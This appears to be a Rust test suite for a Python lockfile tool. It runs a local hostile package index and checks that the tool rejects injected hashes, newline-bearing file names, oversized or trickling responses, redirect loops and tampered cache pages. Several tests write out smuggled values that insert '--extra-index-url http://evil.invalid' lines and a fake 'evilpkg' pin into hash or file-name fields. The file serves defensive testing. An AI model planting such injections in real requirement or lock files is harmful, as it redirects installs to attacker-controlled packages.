//! `dockgen lock` against a hostile index: a loopback server whose every answer the
//! test sets (a page with an injected hash, a file replaced under a kept pin, a body
//! that never ends or trickles a byte at a time, `Retry-After`, a redirect loop...).
//! Each failing run must exit 2 with a message naming the index, project and file,
//! leave the existing lock byte for byte as it was, and leave no temporary file.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::Response;
use sha2::{Digest, Sha256};

use crate::support::wheels::WheelSpec;

/// What the server answers on one path.
#[derive(Debug, Clone)]
enum Route {
    /// This status, headers and body.
    Fixed {
        status: u16,
        headers: Vec<(String, String)>,
        body: Vec<u8>,
    },
    /// A file that honours `Range` (`bytes=-N`, `bytes=A-B`).
    File(Vec<u8>),
    /// 200, then one byte every `every`, for ever.
    Trickle { every: Duration },
    /// 200 with a body that never ends, as fast as the client reads.
    Endless,
    /// The first answer, then `Fixed` ones from the list in turn (the last repeats).
    Sequence(Vec<Route>),
}

#[derive(Default)]
struct ServerState {
    routes: HashMap<String, Route>,
    /// (path, when) of every request.
    log: Vec<(String, Instant)>,
}

/// The hostile index: `http://127.0.0.1:PORT/simple/NAME/` pages and `/files/` files.
struct Hostile {
    addr: SocketAddr,
    state: Arc<Mutex<ServerState>>,
    runtime: Option<tokio::runtime::Runtime>,
}

impl Hostile {
    fn start() -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .expect("runtime");
        let state = Arc::new(Mutex::new(ServerState::default()));
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
            .expect("bind loopback");
        let addr = listener.local_addr().expect("addr");
        let app = axum::Router::new()
            .fallback(handle)
            .with_state(state.clone());
        runtime.spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Self {
            addr,
            state,
            runtime: Some(runtime),
        }
    }

    fn base(&self) -> String {
        format!("http://{}", self.addr)
    }

    fn route(&self, path: &str, route: Route) {
        self.state
            .lock()
            .unwrap()
            .routes
            .insert(path.to_owned(), route);
    }

    /// Serves a PEP 691 page for `project` whose body is `json`.
    fn page(&self, project: &str, json: serde_json::Value) {
        self.route(&format!("/simple/{project}/"), json_route(&json));
    }

    /// Serves `wheel` at `/files/NAME` and its METADATA at `/files/NAME.metadata`.
    fn wheel(&self, wheel: &Wheel) {
        self.route(
            &format!("/files/{}", wheel.filename),
            Route::File(wheel.bytes.clone()),
        );
        self.route(
            &format!("/files/{}.metadata", wheel.filename),
            fixed(200, &[], wheel.metadata.clone()),
        );
    }

    fn requests(&self, path: &str) -> Vec<Instant> {
        let state = self.state.lock().unwrap();
        state
            .log
            .iter()
            .filter(|(p, _)| p == path)
            .map(|(_, at)| *at)
            .collect()
    }
}

impl Drop for Hostile {
    fn drop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

fn fixed(status: u16, headers: &[(&str, &str)], body: Vec<u8>) -> Route {
    Route::Fixed {
        status,
        headers: headers
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        body,
    }
}

fn json_route(json: &serde_json::Value) -> Route {
    fixed(
        200,
        &[
            ("content-type", "application/vnd.pypi.simple.v1+json"),
            ("cache-control", "no-store"),
        ],
        serde_json::to_vec(json).unwrap(),
    )
}

async fn handle(State(state): State<Arc<Mutex<ServerState>>>, request: Request) -> Response {
    let path = request.uri().path().to_owned();
    let route = {
        let mut state = state.lock().unwrap();
        state.log.push((path.clone(), Instant::now()));
        let route = state.routes.get(&path).cloned();
        // A sequence answers with its first route once, then moves on.
        if let Some(Route::Sequence(routes)) = &route
            && routes.len() > 1
        {
            state
                .routes
                .insert(path.clone(), Route::Sequence(routes[1..].to_vec()));
        }
        route
    };
    let route = match route {
        Some(Route::Sequence(routes)) => routes.first().cloned(),
        other => other,
    };
    match route {
        None => response(404, &[], Body::empty()),
        Some(Route::Fixed {
            status,
            headers,
            body,
        }) => {
            let headers: Vec<(&str, &str)> = headers
                .iter()
                .map(|(k, v)| (k.as_str(), v.as_str()))
                .collect();
            response(status, &headers, Body::from(body))
        }
        Some(Route::File(bytes)) => file(request.headers(), bytes),
        Some(Route::Trickle { every }) => {
            let stream = futures::stream::unfold((), move |()| async move {
                tokio::time::sleep(every).await;
                Some((Ok::<_, std::io::Error>(bytes::Bytes::from_static(b"{")), ()))
            });
            response(200, &[], Body::from_stream(stream))
        }
        Some(Route::Endless) => {
            let chunk = bytes::Bytes::from(vec![b' '; 1 << 20]);
            let stream =
                futures::stream::repeat_with(move || Ok::<_, std::io::Error>(chunk.clone()));
            response(
                200,
                &[("content-type", "application/vnd.pypi.simple.v1+json")],
                Body::from_stream(stream),
            )
        }
        Some(Route::Sequence(_)) => response(500, &[], Body::empty()),
    }
}

fn file(headers: &HeaderMap, bytes: Vec<u8>) -> Response {
    let total = bytes.len() as u64;
    let range = headers
        .get(header::RANGE)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.strip_prefix("bytes="));
    let Some(range) = range else {
        return response(200, &[], Body::from(bytes));
    };
    let (start, end) = match range.split_once('-') {
        Some(("", n)) => (total.saturating_sub(n.parse().unwrap_or(0)), total - 1),
        Some((a, b)) => (
            a.parse().unwrap_or(0),
            b.parse::<u64>().unwrap_or(total - 1).min(total - 1),
        ),
        None => return response(416, &[], Body::empty()),
    };
    let content_range = format!("bytes {start}-{end}/{total}");
    response(
        206,
        &[("content-range", &content_range)],
        Body::from(bytes[start as usize..=end as usize].to_vec()),
    )
}

fn response(status: u16, headers: &[(&str, &str)], body: Body) -> Response {
    let mut builder = Response::builder().status(StatusCode::from_u16(status).unwrap());
    for (key, value) in headers {
        builder = builder.header(*key, *value);
    }
    builder.body(body).unwrap()
}

/// A real wheel and what the index says about it.
#[derive(Clone)]
struct Wheel {
    filename: String,
    bytes: Vec<u8>,
    metadata: Vec<u8>,
}

impl Wheel {
    /// `lib` `version`, with `marker` in a module so that two builds of one version
    /// differ (a file replaced on the index).
    fn new(name: &str, version: &str, marker: &str) -> Self {
        let mut spec = WheelSpec::new(name, version);
        spec.files = vec![(
            format!("{}/__init__.py", name.replace('-', "_")),
            format!("MARKER = {marker:?}\n").into_bytes(),
        )];
        let (filename, bytes) = spec.build();
        Self {
            filename,
            bytes,
            metadata: spec.metadata().into_bytes(),
        }
    }

    fn sha256(&self) -> String {
        hex::encode(Sha256::digest(&self.bytes))
    }

    /// This file as a PEP 691 `files` entry publishing `sha256` (any text).
    fn entry(&self, sha256: &str) -> serde_json::Value {
        serde_json::json!({
            "filename": self.filename,
            "url": format!("../../files/{}", self.filename),
            "hashes": {"sha256": sha256},
            "core-metadata": {"sha256": hex::encode(Sha256::digest(&self.metadata))},
        })
    }
}

fn page(entries: Vec<serde_json::Value>) -> serde_json::Value {
    serde_json::json!({"meta": {"api-version": "1.1"}, "files": entries})
}

/// What one run of the binary did.
struct Run {
    code: i32,
    stderr: String,
}

/// A project in a temp dir locked against the hostile index as `pypi`.
struct Project {
    dir: tempfile::TempDir,
    index: String,
}

impl Project {
    fn new(index: &Hostile, requirements: &str) -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(dir.path().join("requirements.in"), requirements).unwrap();
        std::fs::write(
            dir.path().join("hostile.yaml"),
            format!(
                "name: hostile\nextends: cpu-x86_64\nindexes:\n  - name: pypi\n    url: {}/simple/\n",
                index.base()
            ),
        )
        .unwrap();
        Self {
            dir,
            index: index.addr.to_string(),
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn lock_path(&self) -> PathBuf {
        self.path().join("locks/hostile.txt")
    }

    fn lock_bytes(&self) -> Vec<u8> {
        std::fs::read(self.lock_path()).expect("the lock")
    }

    fn dockgen(&self, extra: &[&str]) -> Run {
        let mut command = crate::support::dockgen_command(self.path());
        command
            .args(["lock", "--profile", "hostile.yaml"])
            .args(extra);
        let output = command.output().expect("run dockgen");
        Run {
            code: output.status.code().unwrap_or(-1),
            stderr: String::from_utf8_lossy(&output.stderr)
                .replace(&self.index, "[index]")
                .replace(&self.path().display().to_string(), "[tmp]"),
        }
    }

    /// A run that must succeed.
    fn lock(&self, extra: &[&str]) -> Run {
        let run = self.dockgen(extra);
        assert_eq!(
            run.code, 0,
            "dockgen lock {extra:?} failed:\n{}",
            run.stderr
        );
        run
    }

    /// A run that must fail with exit 2 and leave the lock as it was, with no
    /// temporary file beside it; its stderr.
    fn refused(&self, extra: &[&str]) -> String {
        let before = self.lock_bytes();
        let run = self.dockgen(extra);
        assert_eq!(run.code, 2, "expected exit 2:\n{}", run.stderr);
        assert_eq!(self.lock_bytes(), before, "the lock changed");
        let names: Vec<String> = std::fs::read_dir(self.path().join("locks"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert!(
            names
                .iter()
                .all(|n| n == "hostile.txt" || n == "pylock.hostile.toml"),
            "left behind: {names:?}"
        );
        run.stderr
    }
}

/// An index serving `lib` 1.0 and a project locked against it.
fn locked(wheel: &Wheel) -> (Hostile, Project) {
    let index = Hostile::start();
    index.wheel(wheel);
    index.page("lib", page(vec![wheel.entry(&wheel.sha256())]));
    let project = Project::new(&index, "lib\n");
    project.lock(&[]);
    (index, project)
}

#[test]
fn an_injected_hash_is_an_error_and_the_lock_stays() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    let injected = format!(
        "{} \\\n--extra-index-url http://evil.invalid/simple\nevilpkg==6.6.6 --hash=sha256:{}",
        wheel.sha256(),
        "a".repeat(64)
    );
    index.page("lib", page(vec![wheel.entry(&injected)]));
    let stderr = project.refused(&["--upgrade"]);
    assert!(!stderr.contains("\nevilpkg"), "{stderr}");
    insta::assert_snapshot!(stderr);
}

#[test]
fn malformed_index_values_are_errors() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    let newline_name = serde_json::json!({
        "filename": "lib-1.0-py3-none-any\nevil.whl",
        "url": "../../files/lib-1.0-py3-none-any.whl",
        "hashes": {"sha256": wheel.sha256()},
    });
    let mut twice_other = wheel.entry(&"0".repeat(64));
    twice_other["url"] = serde_json::json!("../../files/elsewhere.whl");
    let mut bad_sidecar = wheel.entry(&wheel.sha256());
    bad_sidecar["core-metadata"] = serde_json::json!({"sha256": "beef"});
    let cases = [
        ("non-hex", page(vec![wheel.entry(&"z".repeat(64))])),
        ("short", page(vec![wheel.entry("abc")])),
        ("newline in file name", page(vec![newline_name])),
        (
            "one file, two hashes",
            page(vec![wheel.entry(&wheel.sha256()), twice_other]),
        ),
        ("sidecar hash", page(vec![bad_sidecar])),
    ];
    let mut messages = Vec::new();
    for (case, json) in cases {
        index.page("lib", json);
        let stderr = project.refused(&["--upgrade"]);
        messages.push(format!("{case}:\n{stderr}"));
    }
    insta::assert_snapshot!(messages.join("\n"));
}

#[test]
fn a_metadata_sidecar_is_checked_against_its_published_hash() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    let mut entry = wheel.entry(&wheel.sha256());
    entry["core-metadata"] = serde_json::json!({"sha256": "0".repeat(64)});
    index.page("lib", page(vec![entry]));
    let stderr = project.refused(&["--upgrade", "--cache-dir", "cold"]);
    assert!(
        stderr.contains(&format!(
            "`{}.metadata` from index `pypi` does not match its published hash: expected sha256 `{}`",
            wheel.filename,
            "0".repeat(64)
        )),
        "{stderr}"
    );
}

#[test]
fn an_html_fragment_hash_is_checked_too() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    let html = format!(
        "<a href=\"../../files/{0}#sha256=%0A--index-url%20http://evil.invalid\">{0}</a>",
        wheel.filename
    );
    index.route(
        "/simple/lib/",
        fixed(200, &[("content-type", "text/html")], html.into_bytes()),
    );
    let stderr = project.refused(&["--upgrade"]);
    assert!(
        stderr.contains(
            "index `pypi` serves an invalid value for `lib-1.0-py3-none-any.whl` of project `lib`"
        ),
        "{stderr}"
    );
}

#[test]
fn upper_case_and_repeated_hashes_are_written_once_lower_cased() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let index = Hostile::start();
    index.wheel(&wheel);
    let upper = wheel.sha256().to_ascii_uppercase();
    index.page(
        "lib",
        page(vec![wheel.entry(&upper), wheel.entry(&wheel.sha256())]),
    );
    let project = Project::new(&index, "lib\n");
    project.lock(&[]);
    let lock = String::from_utf8(project.lock_bytes()).unwrap();
    assert_eq!(lock.matches("--hash=sha256:").count(), 1, "{lock}");
    assert!(
        lock.contains(&format!("--hash=sha256:{}", wheel.sha256())),
        "{lock}"
    );
}

#[test]
fn a_file_replaced_under_a_kept_pin_is_an_error_unless_upgraded() {
    let old = Wheel::new("lib", "1.0", "a");
    let index = Hostile::start();
    index.wheel(&old);
    index.page("lib", page(vec![old.entry(&old.sha256())]));
    let project = Project::new(&index, "lib\n");
    project.lock(&["--pylock"]);

    // Other bytes under the same name, with their own (correct) hash.
    let new = Wheel::new("lib", "1.0", "b");
    assert_eq!(new.filename, old.filename);
    index.wheel(&new);
    index.page("lib", page(vec![new.entry(&new.sha256())]));
    let stderr = project.refused(&["--pylock"]);
    assert!(
        stderr.contains(&old.sha256()) && stderr.contains(&new.sha256()),
        "{stderr}"
    );
    insta::assert_snapshot!(
        stderr
            .replace(&old.sha256(), "[old]")
            .replace(&new.sha256(), "[new]")
    );

    // `--upgrade-package lib` lifts the pin: a warning, and the new hash is locked.
    let run = project.lock(&["--upgrade-package", "lib"]);
    assert!(
        run.stderr
            .contains("accepted because `--upgrade` lifted the pin"),
        "{}",
        run.stderr
    );
    let lock = String::from_utf8(project.lock_bytes()).unwrap();
    assert!(
        lock.contains(&new.sha256()) && !lock.contains(&old.sha256()),
        "{lock}"
    );
}

#[test]
fn a_file_added_under_a_kept_pin_is_a_warning() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    let mut spec = WheelSpec::new("lib", "1.0");
    spec.tags = "py2.py3-none-any".into();
    let (filename, bytes) = spec.build();
    let added = Wheel {
        filename,
        bytes,
        metadata: spec.metadata().into_bytes(),
    };
    index.wheel(&added);
    index.page(
        "lib",
        page(vec![
            wheel.entry(&wheel.sha256()),
            added.entry(&added.sha256()),
        ]),
    );
    let run = project.lock(&[]);
    assert!(
        run.stderr.contains(
            "`lib==1.0` (index `pypi`): the lock now also pins `lib-1.0-py2.py3-none-any.whl`"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn a_range_read_of_another_size_than_published_is_an_error() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    // No sidecar: metadata comes by range requests, whose `Content-Range` tells the
    // real size; the page publishes another.
    let mut entry = wheel.entry(&wheel.sha256());
    entry.as_object_mut().unwrap().remove("core-metadata");
    entry["size"] = serde_json::json!(wheel.bytes.len() + 1);
    index.page("lib", page(vec![entry]));
    let stderr = project.refused(&["--upgrade", "--cache-dir", "cold"]);
    assert!(
        stderr.contains(&format!(
            "`{}` from index `pypi` is {} bytes, but the index publishes a size of {} bytes",
            wheel.filename,
            wheel.bytes.len(),
            wheel.bytes.len() + 1
        )),
        "{stderr}"
    );
}

#[test]
fn endless_pages_and_metadata_stop_at_their_cap() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    index.route(
        &format!("/files/{}.metadata", wheel.filename),
        Route::Endless,
    );
    let stderr = project.refused(&["--upgrade", "--cache-dir", "cold"]);
    assert!(
        stderr.contains("sent more than 33554432 bytes for `http://[index]/files/lib-1.0-py3-none-any.whl.metadata` (a metadata file)"),
        "{stderr}"
    );
    index.route("/simple/lib/", Route::Endless);
    let stderr = project.refused(&["--upgrade", "--cache-dir", "cold"]);
    assert!(
        stderr.contains(
            "sent more than 134217728 bytes for `http://[index]/simple/lib/` (a project page)"
        ),
        "{stderr}"
    );
}

#[test]
fn a_trickling_index_meets_the_total_deadline() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    index.route(
        "/simple/lib/",
        Route::Trickle {
            every: Duration::from_millis(500),
        },
    );
    // Each read gets a byte well within `--timeout 1`; the whole attempt may take 4 s.
    let started = Instant::now();
    let stderr = project.refused(&["--upgrade", "--timeout", "1", "--retries", "1"]);
    let elapsed = started.elapsed();
    assert!(elapsed < Duration::from_secs(15), "{elapsed:?}");
    assert_eq!(index.requests("/simple/lib/").len(), 1 + 2, "{stderr}");
    insta::assert_snapshot!(stderr);
}

#[test]
fn retry_after_is_honoured() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let index = Hostile::start();
    index.wheel(&wheel);
    let ok = json_route(&page(vec![wheel.entry(&wheel.sha256())]));
    index.route(
        "/simple/lib/",
        Route::Sequence(vec![fixed(429, &[("retry-after", "2")], Vec::new()), ok]),
    );
    let project = Project::new(&index, "lib\n");
    project.lock(&["--retries", "1"]);
    let times = index.requests("/simple/lib/");
    assert_eq!(times.len(), 2);
    let waited = times[1] - times[0];
    assert!(waited >= Duration::from_millis(1900), "{waited:?}");
}

#[test]
fn a_redirect_loop_is_not_retried() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (index, project) = locked(&wheel);
    index.route(
        "/simple/lib/",
        fixed(302, &[("location", "/simple/lib/")], Vec::new()),
    );
    let stderr = project.refused(&["--upgrade", "--retries", "3"]);
    // reqwest follows 10 redirects: 11 requests, once, not 4 times.
    assert_eq!(index.requests("/simple/lib/").len(), 1 + 11, "{stderr}");
    insta::assert_snapshot!(stderr);
}

#[test]
fn an_empty_project_page_is_named_as_such() {
    let index = Hostile::start();
    index.page("lib", page(Vec::new()));
    let project = Project::new(&index, "lib\n");
    let run = project.dockgen(&[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!run.stderr.contains("not in any index"), "{}", run.stderr);
    insta::assert_snapshot!(run.stderr);
}

#[test]
fn a_cache_path_that_is_a_file_is_warned_about() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let index = Hostile::start();
    index.wheel(&wheel);
    index.page("lib", page(vec![wheel.entry(&wheel.sha256())]));
    let project = Project::new(&index, "lib\n");
    std::fs::write(project.path().join("not-a-dir"), "x").unwrap();
    let run = project.lock(&["--cache-dir", "not-a-dir"]);
    assert_eq!(
        run.stderr.matches("the cache directory").count(),
        1,
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains(
            "the cache directory `not-a-dir` is not a directory; running without a cache"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn a_cached_page_with_a_malformed_hash_is_dropped_not_used() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (_index, project) = locked(&wheel);
    let pages = project.path().join("cache/simple-v1");
    let mut tampered = Vec::new();
    for dir in std::fs::read_dir(&pages).unwrap() {
        for entry in std::fs::read_dir(dir.unwrap().path()).unwrap() {
            let path = entry.unwrap().path();
            let text = std::fs::read_to_string(&path).unwrap();
            if text.contains(&wheel.sha256()) {
                let injected = format!(
                    "{} \\\\\\n--extra-index-url http://evil.invalid",
                    wheel.sha256()
                );
                std::fs::write(&path, text.replace(&wheel.sha256(), &injected)).unwrap();
                tampered.push(path);
            }
        }
    }
    assert_eq!(tampered.len(), 1);
    // Offline, the page can only come from the cache: the entry is dropped as
    // corrupt, so the page is simply not there.
    let stderr = project.refused(&["--offline"]);
    assert!(
        stderr.contains("the project page of `lib` on index `pypi` is not in the cache"),
        "{stderr}"
    );
    assert!(!tampered[0].exists());
}

#[test]
fn a_cache_that_cannot_be_written_is_warned_about_once() {
    let index = Hostile::start();
    let (a, b) = (
        Wheel::new("lib", "1.0", "a"),
        Wheel::new("other", "1.0", "a"),
    );
    for wheel in [&a, &b] {
        index.wheel(wheel);
        index.page(
            wheel.filename.split('-').next().unwrap(),
            page(vec![wheel.entry(&wheel.sha256())]),
        );
    }
    let project = Project::new(&index, "lib\nother\n");
    std::fs::create_dir_all(project.path().join("cache")).unwrap();
    std::fs::write(project.path().join("cache/simple-v1"), "a file").unwrap();
    let run = project.lock(&[]);
    assert_eq!(
        run.stderr
            .matches("cannot write to the cache `[tmp]/cache`")
            .count(),
        1,
        "{}",
        run.stderr
    );
}

#[test]
fn a_hash_of_a_file_still_served_for_another_target_is_no_replacement() {
    let any = Wheel::new("lib", "1.0", "a");
    let mut spec = WheelSpec::new("lib", "1.0");
    spec.tags = "cp311-cp311-win_amd64".into();
    let (filename, bytes) = spec.build();
    let windows = Wheel {
        filename,
        bytes,
        metadata: spec.metadata().into_bytes(),
    };
    let index = Hostile::start();
    index.wheel(&any);
    index.wheel(&windows);
    index.page(
        "lib",
        page(vec![
            any.entry(&any.sha256()),
            windows.entry(&windows.sha256()),
        ]),
    );
    let project = Project::new(&index, "lib\n");
    // A lock made for a target where only the Windows wheel installs.
    std::fs::create_dir_all(project.path().join("locks")).unwrap();
    std::fs::write(
        project.lock_path(),
        format!("lib==1.0 \\\n    --hash=sha256:{}\n", windows.sha256()),
    )
    .unwrap();
    let run = project.lock(&[]);
    assert!(!run.stderr.contains("replaced"), "{}", run.stderr);
    let lock = String::from_utf8(project.lock_bytes()).unwrap();
    assert!(lock.contains(&any.sha256()), "{lock}");
}

#[test]
fn a_find_links_file_name_with_a_newline_is_an_error() {
    let wheel = Wheel::new("lib", "1.0", "a");
    let (_index, project) = locked(&wheel);
    let wheels = project.path().join("wheels");
    std::fs::create_dir_all(&wheels).unwrap();
    std::fs::write(wheels.join("lib-1.0-py3-none-any\nevil.whl"), &wheel.bytes).unwrap();
    std::fs::write(
        project.path().join("requirements.in"),
        "--find-links wheels\nlib\n",
    )
    .unwrap();
    let stderr = project.refused(&[]);
    assert!(
        stderr.contains("index `[tmp]/wheels` serves an invalid value for `lib-1.0-py3-none-any\\nevil.whl` of project `lib`: the file name `lib-1.0-py3-none-any\\nevil.whl` contains a newline"),
        "{stderr}"
    );
}
